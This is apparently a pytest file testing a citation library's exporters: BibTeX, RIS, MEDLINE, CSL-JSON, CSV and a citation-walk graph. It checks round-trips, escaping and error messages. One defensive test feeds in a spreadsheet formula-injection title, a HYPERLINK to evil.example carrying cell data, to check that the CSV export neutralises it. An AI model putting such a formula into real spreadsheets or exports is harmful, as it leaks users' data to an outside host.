"""Exporters: every format read back by a well-kept third-party reader (bibtexparser, rispy, citeproc-py,
pydot) or by our own MEDLINE parser, field by field, on real records and hand-built edge cases."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import bibtexparser
import pydot
import pytest
import rispy
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors, SplitNameParts
from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
from citeproc.source import DateRange
from citeproc.source.json import CiteProcJSON
from pylatexenc.latex2text import LatexNodes2Text

from store.export import EXPORTERS
from store.export.bibtex import BibtexExporter, protect_title
from store.export.citation import (
    abstract_line,
    article_url,
    full_pages,
    given_name,
    is_literal,
    journal_name,
    keyword_list,
    page_range,
    pubdate,
)
from store.export.csljson import CslJsonExporter
from store.export.graph import Walk, dot_string, write_dot, write_edge_list
from store.export.keys import base_key, citation_keys
from store.export.medline import LINE_WIDTH, MedlineExporter, medline_date
from store.export.metrics import METRIC_COLUMNS
from store.export.ris import RisExporter, ris_date, ris_name
from store.export.table import COLUMNS, MARK_COLUMNS, CsvExporter
from store.export.write import render, write_file
from store.formats.medline import MedlineParser
from store.library import Library
from store.marks import Marks
from store.model import Article, Author, Origin
from tests.store.samples import (
    edge_articles,
    library_stubs,
    medline_files,
    page_articles,
    pubmed_xml_articles,
)

ORIGIN = Origin("test", "here")
MONTHS = ("jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec")


@pytest.fixture
def articles(tmp_path: Path) -> list[Article]:
    """Real records, real stubs, then the hand-built edge cases."""
    return [*page_articles(), *pubmed_xml_articles(), *library_stubs(tmp_path), *edge_articles()]


def test_the_registry_knows_every_format(tmp_path: Path) -> None:
    assert sorted(EXPORTERS) == ["bibtex", "csl-json", "csv", "medline", "ris"]
    assert EXPORTERS["ris"] is RisExporter
    assert {cls.extension for cls in EXPORTERS.values()} == {"bib", "json", "csv", "nbib", "ris"}
    with pytest.raises(ValueError, match="there are: bibtex, ris, medline, csl-json, csv, edges, dot"):
        render(Library.open(tmp_path / "lib.json"), [], "endnote")


def test_unicode_survives_every_format(articles: list[Article]) -> None:
    for cls in EXPORTERS.values():
        text = cls().dumps(articles)
        for word in ("Régulation", "β-catenin", "Müller", "Ødegård", "Πάπας", "Γιώργος", "Wiley"):
            if cls is CsvExporter and word in ("Γιώργος", "Wiley"):
                continue  # fore names and publishers are not CSV columns
            assert word in text, (cls.name, word)


def test_shared_field_spelling() -> None:
    assert page_range("1053-67") == ("1053", "1067")
    assert page_range("2148-9") == ("2148", "2149")
    assert page_range("R123-45") == ("R123", "R145")
    assert page_range("99-101") == ("99", "101")
    assert page_range("301-315.e4") == ("301", "315.e4")
    assert page_range("e33115") == ("e33115", "")
    assert page_range("12-4, 16") == ("12-4, 16", "")
    assert full_pages("215-24") == "215-224"
    assert given_name(Author("Smith", "JA")) == "J. A."
    assert given_name(Author("Smith", "JA", fore="John A")) == "John A"
    assert given_name(Author("Strekas", "TC", fore="T C")) == "T. C."  # older records: initials as fore name
    assert given_name(Author("Bruserud", "Ø")) == "Ø."
    assert is_literal(Author.from_name("World Health Organization"))
    assert article_url(Article(doi="10.1002/(SICI)1097;2-x")) == "https://doi.org/10.1002/(SICI)1097%3B2-x"


# BibTeX ----------------------------------------------------------------------------------------

_DECODER = LatexNodes2Text()


def _decoded(text: str) -> str:
    # pylatexenc renders \textasciicircum as the modifier letter U+02C6; LaTeX prints "^".
    return text.replace("ˆ", "^")


def _read_bibtex(text: str) -> tuple[bibtexparser.Library, bibtexparser.Library]:
    """The file as bibtexparser reads it raw, and with names split and LaTeX decoded."""
    raw = bibtexparser.parse_string(text)
    decoded = bibtexparser.parse_string(
        text, append_middleware=[SeparateCoAuthors(), SplitNameParts(), LatexDecodingMiddleware()]
    )
    for library in (raw, decoded):
        assert library.failed_blocks == []
    return raw, decoded


def _name_parts(author: Author) -> tuple[list[str], list[str], list[str], list[str]]:
    """(first, von, last, jr) as BibTeX's name grammar should find them, word by word."""
    if is_literal(author):
        return [], [], [author.last], []
    words = author.last.split()
    von = [w for w in words[:-1] if w[0].islower()]  # "de Ruiter", "van der Berg"
    return given_name(author).split(), von, words[len(von) :], [author.suffix] if author.suffix else []


def test_bibtex_read_back_by_bibtexparser(articles: list[Article]) -> None:
    text = BibtexExporter().dumps(articles)
    raw, decoded = _read_bibtex(text)
    assert len(decoded.entries) == len(articles)
    keys = [e.key for e in decoded.entries]
    assert len(set(keys)) == len(keys)
    for article, entry, plain in zip(articles, decoded.entries, raw.entries, strict=True):
        fields = {f.key: f.value for f in entry.fields}
        raw_fields = {f.key: f.value for f in plain.fields}
        assert entry.entry_type == "article"
        assert _decoded(fields["title"]) == " ".join(article.title.split())
        names = fields.get("author", [])
        assert len(names) == len(article.authors)
        for author, parts in zip(article.authors, names, strict=True):
            got = tuple(
                [_DECODER.latex_to_text(x) for x in p] for p in (parts.first, parts.von, parts.last, parts.jr)
            )
            assert got == _name_parts(author), author
        expect = {
            "journal": journal_name(article),
            "volume": article.volume,
            "number": article.issue,
            "publisher": article.publisher,
            "abstract": abstract_line(article),
            "keywords": keyword_list(list(dict.fromkeys([*article.keywords, *article.mesh]))),
        }
        for key, value in expect.items():
            assert _decoded(fields.get(key, "")) == value, key
        date = pubdate(article)
        assert raw_fields.get("year") == (str(date.year) if date else None)
        assert raw_fields.get("month") == (MONTHS[date.month - 1] if date and date.month else None)
        first, last = page_range(article.pages)
        assert raw_fields.get("pages", "") == (f"{first}--{last}" if last else first)
        assert raw_fields.get("doi") == article.doi
        assert raw_fields.get("pmid") == article.pmid
        assert raw_fields.get("pmcid") == article.pmcid


def test_bibtex_protects_capitals_and_escapes_specials() -> None:
    title = protect_title(edge_articles()[0].title)
    assert title.startswith(r"{MSC}-derived {DNA} \& {T} cells: 50\% of \$x\_1 \{y\} \#2 \textasciitilde{} a")
    assert (
        r"\textasciicircum{}b \textbackslash{} β-catenin in Müller's cells -{}- a `{}`quoted'{}' review"
        in title
    )
    assert protect_title("The role of miRNA-21 in T4 lymphocytes: vitamin D") == (
        "The role of {miRNA}-21 in {T4} lymphocytes: vitamin {D}"
    )
    assert protect_title("A new paradigm") == "A new paradigm"  # a first-word capital is not protected


def test_bibtex_keys_are_unique_and_stable() -> None:
    edge = edge_articles()
    text = BibtexExporter().dumps(edge)
    keys = [e.key for e in bibtexparser.parse_string(text).entries]
    assert keys == ["muller2015msc", "muller2015msca", "ng1998seasonal", "odegard2000week", "zhang2024citing"]
    assert BibtexExporter().dumps(edge) == text  # same input, same keys
    assert base_key(Article(title="Über die β-Zellen", year=1950, authors=[Author("Größe", "K")])) == (
        "grosse1950uber"
    )
    assert base_key(Article(title="The")) == "anonnd"
    assert citation_keys([Article(title="x") for _ in range(29)])[-3:] == [
        "anonndxz",
        "anonndxaa",
        "anonndxab",
    ]
    # The same articles get the same keys in any order.
    two = [Article(pmid="2", title="Same words"), Article(pmid="1", title="Same words")]
    assert citation_keys(two) == ["anonndsamea", "anonndsame"]
    assert citation_keys(two[::-1]) == ["anonndsame", "anonndsamea"]


def test_bibtex_stub_exports_what_is_known(tmp_path: Path) -> None:
    stub = next(s for s in library_stubs(tmp_path) if s.pmid == "40078652")
    entry = bibtexparser.parse_string(BibtexExporter().dumps([stub])).entries[0]
    assert entry.key == "li2025human"
    assert entry["author"].startswith("Li, K. and Gu, X. and Zhu, Y.")
    assert entry["pages"] == "2879--2899" and entry["pmcid"] == "PMC11900796"


# RIS -------------------------------------------------------------------------------------------


def test_ris_read_back_by_rispy(articles: list[Article]) -> None:
    text = RisExporter().dumps(articles)
    records = rispy.loads(text)
    assert len(records) == len(articles)
    for block in text.rstrip("\n").split("\n\n"):
        lines = block.split("\n")
        assert lines[0] == "TY  - JOUR" and lines[-1] == "ER  - "
        assert all(line[2:6] == "  - " for line in lines)
    for article, record in zip(articles, records, strict=True):
        first, last = page_range(article.pages)
        date = pubdate(article)
        expect = {
            "type_of_reference": "JOUR",
            "authors": [ris_name(a) for a in article.authors] or None,
            "title": " ".join(article.title.split()) or None,
            "secondary_title": journal_name(article) or None,
            "alternate_title1": article.journal or None,
            "year": str(date.year) if date else None,
            "date": ris_date(article) or None,
            "volume": article.volume or None,
            "number": article.issue or None,
            "start_page": first or None,
            "end_page": last or None,
            "publisher": article.publisher or None,
            "doi": article.doi,
            "accession_number": article.pmid,
            "custom2": article.pmcid,
            "abstract": abstract_line(article) or None,
            "keywords": list(dict.fromkeys([*article.keywords, *article.mesh])) or None,
            "urls": [article_url(article)],
        }
        for key, value in expect.items():
            assert record.get(key) == value, (article.label, key)
        assert "unknown_tag" not in record or set(record["unknown_tag"]) <= {"LA"}


def test_ris_authors_dates_and_pages() -> None:
    full, twin, season, days, _ = edge_articles()
    assert [ris_name(a) for a in full.authors[:3]] == [
        "Müller, Hans-Jürgen",
        "COVID-19 Genomics UK (COG-UK) Consortium & Friends and Family",
        "Smith, John A, Jr",
    ]
    assert (ris_date(full), ris_date(season), ris_date(days)) == ("2015/11//", "1998///Spring", "2000/12/23/")
    record = rispy.loads(RisExporter().dumps([twin]))[0]
    assert (record["start_page"], record["end_page"]) == ("R123", "R145")


# MEDLINE ---------------------------------------------------------------------------------------


def _medline_view(article: Article) -> dict[str, object]:
    """What a MEDLINE record carries of an article, as the MEDLINE parser will read it back."""
    own = [x for a in article.authors for x in a.affiliations]
    return {
        "ids": (article.pmid, article.pmcid, article.doi),
        "title": " ".join(article.title.split()),
        "authors": [
            (a.last, a.fore, "" if a.collective else a.initials, a.suffix, a.collective, a.affiliations)
            for a in article.authors
        ],
        "affiliations": list(dict.fromkeys([*(x for x in article.affiliations if x not in own), *own])),
        "journal": (article.journal, article.journal_title, article.publisher),
        "date": (medline_date(article), article.year),
        "vip": (article.volume, article.issue, article.pages),
        "abstract": abstract_line(article),
        "lists": (article.languages, article.publication_types, article.mesh, article.keywords),
    }


def _medline_parse(text: str) -> list[Article]:
    return list(MedlineParser().parse(io.BytesIO(text.encode("utf-8")), "export.nbib"))


def test_medline_round_trip(articles: list[Article]) -> None:
    exporter = MedlineExporter()
    text = exporter.dumps(articles)
    with_pmid = [a for a in articles if a.pmid]
    assert exporter.skipped == len(articles) - len(with_pmid) > 0
    back = _medline_parse(text)
    assert [a.pmid for a in back] == [a.pmid for a in with_pmid]
    for original, again in zip(with_pmid, back, strict=True):
        assert _medline_view(again) == _medline_view(original), original.pmid
    # Sections survive where MEDLINE's one-paragraph abstract can tell them apart.
    full = next(a for a in back if a.pmid == "31000001")
    assert full.abstract == edge_articles()[0].abstract


def test_medline_layout() -> None:
    text = MedlineExporter().dumps(edge_articles()[:2])
    lines = text.split("\n")
    assert lines[0] == "PMID- 31000001"
    assert "FAU - Müller, Hans-Jürgen" in lines and "AU  - Müller HJ" in lines
    assert "FAU - Smith, John A Jr" in lines and "AU  - Smith JA Jr" in lines
    assert "CN  - COVID-19 Genomics UK (COG-UK) Consortium & Friends and Family" in lines
    assert "LID - 10.1000/ab_c(2019)#1 [doi]" in lines and "AID - 10.1000/ab_c(2019)#1 [doi]" in lines
    assert "PMC - PMC7000001" in lines and "DP  - 2015 Nov-Dec" in lines and "PG  - 1053-67" in lines
    assert "" in lines[1:-2]  # a blank line between the records
    for line in lines:
        assert len(line) <= LINE_WIDTH or " " not in line[6:]
        assert line == "" or line[4:6] == "- " or (line.startswith(" " * 6) and line[6] != " ")


def test_pubmed_xml_records_round_trip_through_medline() -> None:
    originals = pubmed_xml_articles()
    assert len(originals) >= 3
    back = _medline_parse(MedlineExporter().dumps(originals))
    assert [_medline_view(a) for a in back] == [_medline_view(a) for a in originals]


def test_medline_round_trip_of_real_pubmed_records() -> None:
    files = medline_files()
    if not files:
        pytest.skip("no MEDLINE sample files")
    for path in files:
        originals = list(MedlineParser().parse(io.BytesIO(path.read_bytes()), str(path)))
        assert originals, path
        back = _medline_parse(MedlineExporter().dumps(originals))
        assert [a.to_doc() for a in back] == [a.to_doc() for a in originals], path.name


# CSL-JSON --------------------------------------------------------------------------------------


def test_csl_json_read_by_citeproc(articles: list[Article]) -> None:
    text = CslJsonExporter().dumps(articles)
    items = json.loads(text)
    assert [item["id"] for item in items] == [
        e.key for e in bibtexparser.parse_string(BibtexExporter().dumps(articles)).entries
    ]
    source = CiteProcJSON(items)
    for article, item in zip(articles, items, strict=True):
        ref = source[item["id"].lower()]
        assert ref.type == "article-journal"
        assert str(ref.title) == " ".join(article.title.split())
        names = [dict(n) for n in ref.get("author", [])]
        expect_names = []
        for a in article.authors:
            if is_literal(a):
                expect_names.append({"literal": a.last})
            else:
                name = {"family": a.last, "given": given_name(a)}
                if a.suffix:
                    name["suffix"] = a.suffix
                expect_names.append(name)
        assert names == expect_names
        date = pubdate(article)
        issued = ref.get("issued")
        if date is None:
            assert issued is None
        elif date.end:
            assert isinstance(issued, DateRange)
            assert (issued.begin.year, issued.begin.month) == date.start[:2]
            assert (issued.end.year, issued.end.get("month")) == (date.end[0], date.end[1])
        else:
            assert issued.year == date.year and issued.get("month") == date.month
            assert issued.get("day") == date.day and issued.get("season") == date.season
        expect = {
            "container_title": journal_name(article),
            "container_title_short": article.journal if article.journal_title else "",
            "publisher": article.publisher,
            "volume": article.volume,
            "issue": article.issue,
            "page": full_pages(article.pages),
            "DOI": article.doi or "",
            "PMID": article.pmid or "",
            "PMCID": article.pmcid or "",
            "URL": article_url(article),
            "abstract": article.abstract_text,
            "keyword": keyword_list(article.keywords),
        }
        for key, value in expect.items():
            assert str(ref.get(key, "")) == value, (article.label, key)


def test_csl_json_renders_with_a_real_style() -> None:
    items = json.loads(CslJsonExporter().dumps(edge_articles()))
    source = CiteProcJSON(items)
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, source, formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    rendered = [str(entry) for entry in bibliography.bibliography()]
    assert any("pp. 1053–1067" in r and "Müller, H.-J." in r for r in rendered)
    assert any("Ng, W. (1998)" in r and "e33115" in r for r in rendered)


def test_csl_json_dates() -> None:
    full, twin, season, days, stub = (json.loads(CslJsonExporter().dumps([a]))[0] for a in edge_articles())
    assert full["issued"] == {"date-parts": [[2015, 11], [2015, 12]]}
    assert twin["issued"] == {"date-parts": [[2015, 10, 3]]}
    assert season["issued"] == {"date-parts": [[1998]], "season": 1}
    assert days["issued"] == {"date-parts": [[2000, 12, 23], [2000, 12, 30]]}
    assert stub["issued"] == {"date-parts": [[2024]]}
    assert full["container-title-short"] == "J Stem Cells β" and "container-title-short" not in stub


# CSV -------------------------------------------------------------------------------------------


def test_csv_rows_and_marks(articles: list[Article], tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(CsvExporter().dumps(articles))))
    assert list(rows[0]) == [*COLUMNS, *METRIC_COLUMNS]
    assert len(rows) == len(articles)
    for article, row in zip(articles, rows, strict=True):
        assert row["title"] == article.title and row["pmid"] == (article.pmid or "")
        assert row["authors"].split("; ") == ([a.name for a in article.authors] or [""])
        assert row["stub"] == ("true" if article.stub else "false")
    seed = next(r for r in rows if r["pmid"] == "30992990")
    assert (seed["year"], seed["citation_count"], seed["journal"]) == ("2019", "189", "Biomark Res")

    marks = Marks.open(tmp_path / "library.json")
    marks.set_star(articles[0].keys, True)
    marks.add_tag(articles[0].keys, "to-read")
    marks.add_tag(articles[0].keys, "later")
    marks.set_note(articles[0].keys, 'Says "MSC", with, commas\nand a second line')
    marks.set_screening(articles[1].keys, "excluded")
    rows = list(csv.DictReader(io.StringIO(CsvExporter(marks=marks).dumps(articles))))
    assert list(rows[0]) == [*COLUMNS, *MARK_COLUMNS, *METRIC_COLUMNS]
    assert (rows[0]["starred"], rows[0]["tags"], rows[0]["screening"]) == ("true", "to-read; later", "")
    assert rows[0]["note"] == 'Says "MSC", with, commas\nand a second line'
    assert (rows[1]["starred"], rows[1]["screening"]) == ("false", "excluded")


# The walk --------------------------------------------------------------------------------------


# pydot still calls pyparsing's old camelCase names, which newer pyparsing warns about.
@pytest.mark.filterwarnings("ignore::pyparsing.PyparsingDeprecationWarning")
def test_walk_edge_list_and_dot(tmp_path: Path) -> None:
    library = Library.open(tmp_path / "library.json")
    seed = library.find("30992990")
    citing = library.find("40078652")
    cited = library.find("10.1681/ASN.2008070798")
    other = library.find("39963133")
    assert None not in (seed, citing, cited, other)
    with library.transaction() as changes:  # a title DOT must escape
        changes.put_article(
            Article(pmid="39963133", title='A "quoted" \\ title', journal="Front Immunol"), ORIGIN
        )
    trail = [seed, citing, citing, seed, cited, other, 10_000]
    walk = Walk.from_trail(trail, library)  # type: ignore[arg-type]
    assert list(walk.articles) == [seed, citing, cited, other]  # the unknown id is left out
    assert walk.visits[seed] == [1, 3]

    out = io.StringIO()
    write_edge_list(walk, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["source", "target", "relation"]
    assert sorted(rows[1:4]) == [
        ["30992990", "PMC2676194", "cites"],
        ["39963133", "30992990", "cites"],
        ["40078652", "30992990", "cites"],
    ]
    assert rows[4:] == [
        ["30992990", "40078652", "visited_next"],
        ["40078652", "30992990", "visited_next"],
        ["30992990", "PMC2676194", "visited_next"],
        ["PMC2676194", "39963133", "visited_next"],
    ]

    out = io.StringIO()
    write_dot(walk, out)
    graphs = pydot.graph_from_dot_data(out.getvalue())
    assert graphs is not None and len(graphs) == 1
    graph = graphs[0]
    nodes = {n.get_name(): n for n in graph.get_nodes() if n.get_name()[1:].isdigit()}
    assert set(nodes) == {f"n{i}" for i in walk.articles}
    assert nodes[f"n{seed}"].get_label() == '"1, 3. 2019\\nExosomes from Mesenchymal Stem/stromal…"'
    assert nodes[f"n{other}"].get_label() == '"5. Dong et al. 2025\\nA \\"quoted\\" \\\\ title"'
    edges = [(e.get_source(), e.get_destination(), e.get_style()) for e in graph.get_edges()]
    assert (f"n{citing}", f"n{seed}", "solid") in edges
    assert edges.count((f"n{seed}", f"n{cited}", "dashed")) == 1
    assert len([e for e in edges if e[2] == "dashed"]) == 4


def test_dot_strings() -> None:
    assert dot_string('say "hi" \\ to\nme') == '"say \\"hi\\" \\\\ to\\nme"'


def test_bibtex_braces_names_that_would_split() -> None:
    """A family name holding " and " (from a CSL-JSON record) or a comma stays one name."""
    article = Article(
        pmid="1",
        title="T",
        authors=[
            Author("Smith and Jones", "A", fore="Anna"),
            Author("Lee", "K", fore="Kim AND Co"),
            Author("Barr, Jr", "B"),
            Author("Anderson", "C"),
        ],
    )
    _raw, decoded = _read_bibtex(BibtexExporter().dumps([article]))
    names = {f.key: f.value for f in decoded.entries[0].fields}["author"]
    assert len(names) == 4
    assert [_DECODER.latex_to_text(" ".join(n.last)) for n in names] == [
        "Smith and Jones",
        "Lee",
        "Barr, Jr",
        "Anderson",
    ]
    assert _DECODER.latex_to_text(" ".join(names[1].first)) == "Kim AND Co"


def test_csv_neutralises_formulas_unless_raw() -> None:
    article = Article(
        pmid="1",
        title='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        authors=[Author("+Plus", "A"), Author("Minus", "B")],
        journal="@Journal",
        volume="-1",
        issue="\tTab",
        pages="\r12",
    )
    (row,) = csv.DictReader(io.StringIO(CsvExporter().dumps([article])))
    assert row["title"] == "'" + article.title
    assert (row["authors"], row["journal"]) == ("'+Plus A; Minus B", "'@Journal")
    assert (row["volume"], row["issue"], row["pages"]) == ("'-1", "'\tTab", "'\r12")
    assert row["pmid"] == "1"
    (raw,) = csv.DictReader(io.StringIO(CsvExporter(raw=True).dumps([article])))
    assert raw["title"] == article.title and raw["volume"] == "-1"


@pytest.mark.parametrize("target", ["/", ".", "folder"])
def test_writing_an_export_to_a_folder_is_an_os_error(tmp_path: Path, target: str) -> None:
    (tmp_path / "folder").mkdir()
    path = Path(target) if target == "/" else tmp_path / target
    with pytest.raises(IsADirectoryError):
        write_file("x", path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder"]


def test_export_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tui.cli import main

    db = str(tmp_path / "library.json")
    assert main(["--db", db, "stats"]) == 0
    capsys.readouterr()
    assert main(["--db", db, "export", "--format", "csv", "--ids", "30992990", "-o", "/"]) == 2
    _out, err = capsys.readouterr()
    assert err.count("\n") == 1 and "cannot write /" in err and "nothing was written" in err
    bad = str(tmp_path / "no such folder" / "a\nb.csv")
    assert main(["--db", db, "export", "--format", "csv", "--ids", "30992990", "-o", bad]) == 2
    _out, err = capsys.readouterr()
    assert err.count("\n") == 1 and "a\u240ab.csv" in err
